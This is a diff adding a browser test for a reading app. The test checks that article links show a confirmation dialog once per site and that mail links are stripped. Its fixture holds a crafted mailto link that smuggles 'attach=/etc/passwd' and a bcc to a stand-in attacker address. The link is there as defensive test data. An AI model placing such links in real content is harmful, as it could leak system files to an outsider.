@@ -154,3 +154,47 @@ test('the app loads, reads and edits with no Content Security Policy violation, 
   await expect(page.getByTestId('save-status')).toHaveText('Saved');
   expect(await page.evaluate(() => (window as unknown as { violations: string[] }).violations)).toEqual([]);
 });
+
+test('a link in an article shows where it goes and asks once per site; a mail link loses its attachment', async ({ page, app }) => {
+  const library = Library.open(app.libraryPath);
+  insertSavedArticle(library, {
+    title: 'Harbour links',
+    html:
+      '<p>Read <a href="https://harbour.example/timetable">the timetable</a> and <a href="https://harbour.example/fares">the fares</a>, ' +
+      'or <a href="mailto:desk@harbour.example?subject=Tip&amp;attach=/etc/passwd&amp;bcc=spy@attacker.example">write to the desk</a>.</p>',
+    text: 'Read the timetable and the fares, or write to the desk.',
+    sourceUrl: 'https://harbour.example/links',
+  });
+  library.close();
+  await page.addInitScript(() => {
+    (window as unknown as { opened: string[] }).opened = [];
+    window.open = (url?: string | URL) => {
+      (window as unknown as { opened: string[] }).opened.push(String(url));
+      return null;
+    };
+  });
+  await page.goto(app.url);
+  await openArticle(page, 'Harbour links');
+  const opened = () => page.evaluate(() => (window as unknown as { opened: string[] }).opened);
+
+  await page.getByRole('link', { name: 'the timetable' }).click();
+  const ask = page.getByRole('dialog', { name: 'Open this link?' });
+  await expect(ask).toContainText('https://harbour.example/timetable');
+  await ask.getByRole('button', { name: 'Cancel' }).click();
+  expect(await opened()).toEqual([]);
+
+  await page.getByRole('link', { name: 'the timetable' }).click();
+  await ask.getByRole('button', { name: 'Open link' }).click();
+  expect(await opened()).toEqual(['https://harbour.example/timetable']);
+  // The same site again: no question.
+  await page.getByRole('link', { name: 'the fares' }).click();
+  await expect.poll(opened).toEqual(['https://harbour.example/timetable', 'https://harbour.example/fares']);
+  await expect(ask).toBeHidden();
+
+  await page.getByRole('link', { name: 'write to the desk' }).click();
+  const mail = page.getByRole('dialog', { name: 'Write an e-mail?' });
+  await expect(mail).toContainText('mailto:desk@harbour.example?subject=Tip');
+  await expect(mail).not.toContainText('attach');
+  await mail.getByRole('button', { name: 'Write e-mail' }).click();
+  expect((await opened()).at(-1)).toBe('mailto:desk@harbour.example?subject=Tip');
+});
